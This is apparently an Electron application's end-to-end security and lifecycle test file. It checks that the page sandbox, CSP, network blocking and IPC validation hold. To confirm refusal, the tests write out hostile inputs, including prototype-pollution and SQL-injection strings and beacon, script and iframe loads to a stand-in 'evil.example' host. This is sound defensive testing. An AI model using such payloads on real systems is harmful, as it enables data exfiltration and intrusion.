// The running application's outer boundary: the window's API, the page's sandbox, and what starting, ending and crashing leave behind.
import { createSocket as createUdp } from 'node:dgram'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { afterAll, beforeAll, describe, expect } from 'vitest'
import type { AppState } from '../../shared/ipc/app-state.ts'
import { COLOURS } from '../../shared/app/palette.ts'
import type { Result } from '../../shared/result.ts'
import { noKeychain } from '../support/keyring-session.ts'
import { startAgain, type Launched } from '../support/launch.ts'
import { at, chooseTraining } from '../support/officer.ts'
import { openFolder, test } from './window-test.ts'

const invoke = (page: Page, name: unknown, input: unknown): Promise<Result<unknown>> =>
  page.evaluate(([called, given]) => window.binnacle.invoke(called as string, given), [
    name,
    input,
  ] as const) as Promise<Result<unknown>>

async function stateOf(page: Page): Promise<AppState> {
  const answer = await invoke(page, 'app.state', {})
  if (!answer.ok) throw new Error(answer.fault.message)
  return answer.value as AppState
}

const logIn = (dataFolder: string): string => readFileSync(join(dataFolder, 'logs', 'binnacle.log'), 'utf8')
const OWN = { env: { ...noKeychain } }

describe('before the first choice', () => {
  const shared = openFolder()
  const log = (): string => logIn(shared.dataFolder)
  let binnacle: Launched
  beforeAll(async () => {
    binnacle = await shared.start({ env: { ...noKeychain, https_proxy: 'http://proxy.ship:3128' } })
  })
  afterAll(shared.end)

  test('the API refuses what does not fit, in words, and goes on working', async () => {
    const { page } = binnacle
    const refused: [unknown, unknown][] = [
      ['__proto__', {}],
      ['constructor', {}],
      ['', {}],
      [7, {}],
      [null, {}],
      [{ name: 'app.state' }, {}],
      ['app.state', null],
      ['app.state', []],
      ['app.state', { more: 1 }],
      ['app.setPreferences', { palette: 'pink' }],
      ['app.setPreferences', { layout: { panelShare: 2, stripShare: null } }],
      ['voyage.get', { voyageId: '1 or 1=1' }],
      ['key.set', { apiKey: 'x'.repeat(10_000) }],
    ]
    for (const [name, input] of refused) {
      const answer = await invoke(page, name, input)
      expect({ name, input, answer }).toMatchObject({ answer: { ok: false, fault: { code: 'bad-input' } } })
    }
    const polluted = await page.evaluate(() =>
      window.binnacle.invoke('app.setPreferences', JSON.parse('{"palette":"night","__proto__":{"polluted":true}}')),
    )
    expect(polluted).toMatchObject({ ok: false })
    expect((await stateOf(page)).preferences.palette).toBe('day')
    const huge = await page.evaluate(() =>
      window.binnacle.invoke('voyage.import', { fileName: 'x', text: 'y'.repeat(5_000_000) }),
    )
    expect(huge).toMatchObject({ ok: false, fault: { code: 'bad-input' } })
    expect((await stateOf(page)).mode).toBeNull()
  })

  test('the API refuses another window, even with our own page and preload in it', async () => {
    const { app, page } = binnacle
    const opened = app.waitForEvent('window')
    await app.evaluate(
      async ({ BrowserWindow }, preload) => {
        const [ours] = BrowserWindow.getAllWindows()
        if (ours === undefined) throw new Error('no window')
        const { session } = ours.webContents
        const webPreferences = { session, preload, sandbox: true, contextIsolation: true }
        const second = new BrowserWindow({ show: false, webPreferences })
        await second.loadURL(ours.webContents.getURL())
      },
      join(import.meta.dirname, '../../out/preload/preload.cjs'),
    )
    const second = await opened
    await at(second, 'app').waitFor()
    const stranger = await invoke(second, 'app.state', {})
    await second.close()
    expect(stranger).toMatchObject({
      ok: false,
      fault: { code: 'bad-input', message: expect.stringMatching(/own window/) as string },
    })
    expect((await stateOf(page)).preferences.palette).toBe('day')
  })

  test('whatever a window of ours requests, its session reaches no network', async () => {
    const { app } = binnacle
    const outcomes = await app.evaluate(async ({ BrowserWindow }) => {
      const [ours] = BrowserWindow.getAllWindows()
      if (ours === undefined) throw new Error('no window')
      const { session } = ours.webContents
      const second = new BrowserWindow({
        show: false,
        webPreferences: { session, sandbox: true, contextIsolation: true },
      })
      const outcomes: string[] = []
      for (const url of ['https://service.example/', 'http://127.0.0.1:9/', 'app://elsewhere/index.html']) {
        const failure = await second.loadURL(url).then(
          () => 'loaded',
          (error: Error) => error.message,
        )
        outcomes.push(failure.replace(/ \(.*/, ''))
      }
      second.destroy()
      return outcomes
    })
    expect(outcomes).toEqual(['ERR_BLOCKED_BY_CLIENT', 'ERR_BLOCKED_BY_CLIENT', 'ERR_BLOCKED_BY_CLIENT'])
    expect(log()).toMatch(/a request to https:\/\/service\.example\/ was refused/)
  })

  test('WebRTC of a page sends nothing, not even to this machine', async () => {
    const heard: string[] = []
    const listener = createUdp('udp4').on('message', (message) => void heard.push(message.toString('hex')))
    await new Promise<void>((ready) => listener.bind(0, '127.0.0.1', ready))
    const { port } = listener.address()
    try {
      const { page } = binnacle
      const iceCandidates = await page.evaluate(async (stunPort) => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] })
        const candidates: string[] = []
        const done = new Promise<void>((resolve) => {
          connection.addEventListener('icecandidate', ({ candidate }) =>
            candidate === null ? resolve() : candidates.push(candidate.candidate),
          )
        })
        connection.createDataChannel('x')
        await connection.setLocalDescription(await connection.createOffer())
        await done
        return candidates
      }, port)
      // What is sent to ourselves now has overtaken nothing that was sent before.
      const own = createUdp('udp4')
      await new Promise<void>((sent) => own.send('last', port, '127.0.0.1', () => sent()))
      own.close()
      await expect.poll(() => heard.at(-1)).toBe(Buffer.from('last').toString('hex'))
      expect(heard).toHaveLength(1)
      expect(iceCandidates.filter((candidate) => / udp /i.test(candidate))).toEqual([])
    } finally {
      listener.close()
    }
  })

  test('the window’s session has a dead proxy besides its guard; the system’s is read from another', async () => {
    const { app } = binnacle
    const proxies = await app.evaluate(async ({ BrowserWindow, session }) => {
      const ours = BrowserWindow.getAllWindows()[0]?.webContents.session
      return Promise.all([ours, session.defaultSession].map((one) => one?.resolveProxy('https://service.example/')))
    })
    expect(proxies).toEqual(['PROXY 127.0.0.1:9', 'PROXY proxy.ship:3128'])
  })

  test('the page has two functions and nothing of Node or Electron', async () => {
    const { page } = binnacle
    const found = await page.evaluate(() => ({
      bridge: Object.keys(window.binnacle).toSorted(),
      frozen: Object.isFrozen(window.binnacle),
      globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', 'global'].filter(
        (name) => name in window,
      ),
    }))
    expect(found).toEqual({ bridge: ['invoke', 'on'], frozen: true, globals: [] })
  })

  test('the page cannot leave, open, embed, download, fetch, or run what did not come with it', async () => {
    const { app, page, expectComplaint } = binnacle
    expectComplaint(/Content Security Policy/)
    const address = page.url()
    const failed = await page.evaluate(async () => {
      const outcome: Record<string, unknown> = {}
      const violations: string[] = []
      Object.assign(window, { violations })
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
      })
      const attempt = async (name: string, work: () => unknown): Promise<void> => {
        try {
          outcome[name] = String(await work())
        } catch {
          outcome[name] = 'failed'
        }
      }
      await attempt('fetch elsewhere', () => fetch('https://service.example/'))
      await attempt('fetch loopback', () => fetch('http://127.0.0.1:9/'))
      await attempt('fetch own files', () => fetch('./index.html'))
      await attempt(
        'socket',
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('ws://127.0.0.1:9/')
            socket.addEventListener('open', resolve)
            socket.addEventListener('error', reject)
          }),
      )
      // oxlint-disable-next-line no-eval
      await attempt('eval', () => (0, eval)('1 + 1'))
      // oxlint-disable-next-line no-new-func
      await attempt('new Function', () => new Function('return 2')())
      await attempt('window.open', () => window.open('https://evil.example/'))
      await attempt('geolocation', async () => (await navigator.permissions.query({ name: 'geolocation' })).state)
      navigator.sendBeacon('https://evil.example/', 'x')
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      const script = document.createElement('script')
      script.textContent = 'window.wasRun = true'
      const remote = document.createElement('script')
      remote.src = 'https://evil.example/x.js'
      const image = document.createElement('img')
      image.src = 'https://evil.example/x.png'
      const styled = document.createElement('div')
      styled.innerHTML = '<b style="color: red">x</b>'
      document.body.append(frame, script, remote, image, styled)
      return outcome
    })
    expect(failed).toEqual({
      'fetch elsewhere': 'failed',
      'fetch loopback': 'failed',
      'fetch own files': 'failed',
      socket: 'failed',
      eval: 'failed',
      'new Function': 'failed',
      'window.open': 'null',
      geolocation: 'denied',
    })
    const violations = (): Promise<string[]> =>
      page.evaluate(() => [...new Set((window as unknown as { violations: string[] }).violations)].toSorted())
    await expect
      .poll(violations)
      .toEqual(
        expect.arrayContaining([
          'connect-src http://127.0.0.1:9/',
          'connect-src https://evil.example/',
          'connect-src https://service.example/',
          'connect-src ws://127.0.0.1:9/',
          'frame-src https://evil.example',
          'img-src https://evil.example/x.png',
          'script-src eval',
          'script-src-elem https://evil.example/x.js',
          'script-src-elem inline',
          'style-src-attr inline',
        ]),
      )
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false)
    await page.evaluate(() => void (location.href = 'https://evil.example/'))
    await expect.poll(log).toMatch(/a navigation.* to https:\/\/evil\.example\/ was refused/)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'data:text/plain,stolen'
      link.download = 'stolen.txt'
      document.body.append(link)
      link.click()
    })
    await expect.poll(log).toMatch(/a download was refused/)
    expect(page.url()).toBe(address)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect((await stateOf(page)).version).toMatch(/^\d+\.\d+\.\d+/)
  })
})

test('the page is in the kept palette from its first frame, window and all', async ({ start }) => {
  const first = await start(OWN)
  await at(first.page, 'palette-night').click()
  await expect.poll(async () => (await stateOf(first.page)).preferences.palette).toBe('night')
  await first.close()
  const { app, page } = await start(OWN)
  const look = await app.evaluate(({ BrowserWindow, nativeTheme }) => ({
    background: BrowserWindow.getAllWindows()[0]?.getBackgroundColor().toLowerCase(),
    theme: nativeTheme.themeSource,
  }))
  expect(look).toEqual({ background: COLOURS.night.bg, theme: 'dark' })
  // `interactive` comes before any script of the page: this is what was served.
  await page.addInitScript(() =>
    document.addEventListener(
      'readystatechange',
      () => {
        Object.assign(window, { paletteServed: document.documentElement.dataset['palette'] })
      },
      { once: true },
    ),
  )
  await page.reload()
  expect(await page.evaluate(() => (window as unknown as { paletteServed: string }).paletteServed)).toBe('night')
  await page.locator('html[data-palette="night"]').waitFor()
})

describe('starting and ending', () => {
  test('a second start brings the first to the front and ends', async ({ dataFolder, start }) => {
    const { app, page } = await start(OWN)
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.minimize())
    expect(await startAgain({ userDataDir: dataFolder, ...OWN })).toBe(0)
    await expect
      .poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.isMinimized()))
      .toBe(false)
    expect((await stateOf(page)).fault).toBeNull()
  })

  test('closing the window ends the application in order: databases closed, bounds kept', async ({
    dataFolder,
    start,
  }) => {
    const log = (): string => logIn(dataFolder)
    const { app, page } = await start(OWN)
    await chooseTraining(page)
    await invoke(page, 'voyage.importSample', {})
    await app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.setBounds({ x: 100, y: 60, width: 1200, height: 700 }),
    )
    const gone = new Promise<number | null>((resolve) => app.process().once('exit', resolve))
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close())
    expect(await gone).toBe(0)
    expect(readdirSync(join(dataFolder, 'training')).filter((name) => /-(wal|shm)$/.test(name))).toEqual([])
    expect(log()).not.toMatch(/ error /)
    expect(log()).toMatch(/Binnacle ends: its data are closed\n$/)
    const again = await start(OWN)
    const bounds = await again.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getBounds())
    expect(bounds).toEqual({ x: 100, y: 60, width: 1200, height: 700 })
    await at(again.page, 'training-mark').waitFor()
  })

  test('broken settings are quarantined, which is reported, and the first question is put again', async ({
    dataFolder,
    start,
  }) => {
    mkdirSync(dataFolder)
    writeFileSync(join(dataFolder, 'preferences.json'), '{"mode":"training"')
    const { page } = await start(OWN)
    await at(page, 'first-run').waitFor()
    await expect
      .poll(() => at(page, 'notice').allInnerTexts())
      .toEqual([expect.stringMatching(/settings could not be read and were set aside/)])
  })

  test('a page that crashes comes back as it was', async ({ dataFolder, start }) => {
    const { app, page } = await start(OWN)
    await chooseTraining(page)
    await invoke(page, 'voyage.importSample', {})
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.forcefullyCrashRenderer())
    const title = (): Promise<string | undefined> =>
      app.evaluate(async ({ BrowserWindow }) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents
        return contents === undefined || contents.isCrashed()
          ? undefined
          : String(await contents.executeJavaScript('document.title + document.body.innerText'))
      })
    await expect.poll(() => logIn(dataFolder)).toMatch(/the page's process ended: crashed/)
    await expect.poll(title).toMatch(/Bishop Rock/)
  })
})

describe('the menu', () => {
  const shared = openFolder()
  let launched: Launched
  beforeAll(async () => {
    launched = await shared.start(OWN)
    await chooseTraining(launched.page)
  })
  afterAll(shared.end)

  const click = ({ app }: Launched, id: string): Promise<void> =>
    app.evaluate(({ Menu }, itemId) => void Menu.getApplicationMenu()?.getMenuItemById(itemId)?.click(), id)
  const answerDialogs = ({ app }: Launched, filePaths: string[]): Promise<void> =>
    app.evaluate(({ dialog }, paths) => {
      dialog.showOpenDialog = () => Promise.resolve({ canceled: paths.length === 0, filePaths: paths })
    }, filePaths)

  test('opens a route, changes the palette, and says what Binnacle is not for', async () => {
    const { page } = launched
    await answerDialogs(launched, [join(import.meta.dirname, '../fixtures/routes/north-atlantic.rtz')])
    await click(launched, 'file.open')
    await page.getByText('Bishop Rock – Ambrose').first().waitFor()
    await page.getByTestId('import-report').getByText('north-atlantic.rtz').waitFor()
    // It stands under Open recent from now on.
    const recent = (): Promise<(string | undefined)[]> =>
      launched.app.evaluate(({ Menu }) => {
        const items = Menu.getApplicationMenu()?.getMenuItemById('recent')?.submenu?.items ?? []
        return items.map(({ label }) => label)
      })
    await expect.poll(recent).toEqual(['north-atlantic.rtz'])
    await page.getByTestId('import-report').getByRole('button', { name: 'Dismiss' }).click()
    await page.getByTestId('import-report').waitFor({ state: 'detached' })
    await launched.app.evaluate(
      ({ Menu }) => void Menu.getApplicationMenu()?.getMenuItemById('recent')?.submenu?.items[0]?.click(),
    )
    await page.getByTestId('import-report').getByText('north-atlantic.rtz').waitFor()
    await click(launched, 'view.dusk')
    await page.locator('html[data-palette="dusk"]').waitFor()
    expect(
      await launched.app.evaluate(({ Menu }) => Menu.getApplicationMenu()?.getMenuItemById('view.dusk')?.checked),
    ).toBe(true)
    await click(launched, 'help.about')
    await page
      .locator('aside[data-subject="settings"]:visible')
      .getByText(/Not for primary navigation/)
      .waitFor()
    await click(launched, 'go.plan')
    await page.locator('aside[data-subject="plan"]:visible').waitFor()
  })

  test.each([
    ['a file that is gone', 'gone.rtz', /“gone.rtz” is no longer there/],
    ['a folder', '.', /is a folder/],
    ['a file that is no route', 'page.rtz', /broken at line 1/],
  ])('says what is wrong with %s', async (_what, name, sentence) => {
    writeFileSync(join(shared.folder, 'page.rtz'), '<!doctype html><p>Log in')
    await answerDialogs(launched, [join(shared.folder, name)])
    await click(launched, 'file.open')
    await expect.poll(() => launched.page.getByTestId('voyage-fault').textContent()).toMatch(sentence)
    const answer = await invoke(launched.page, 'voyage.open', {})
    expect(answer).toMatchObject({ ok: false, fault: { message: expect.stringMatching(sentence) as string } })
    await answerDialogs(launched, [])
    expect(await invoke(launched.page, 'voyage.open', {})).toEqual({ ok: true, value: null })
  })
})
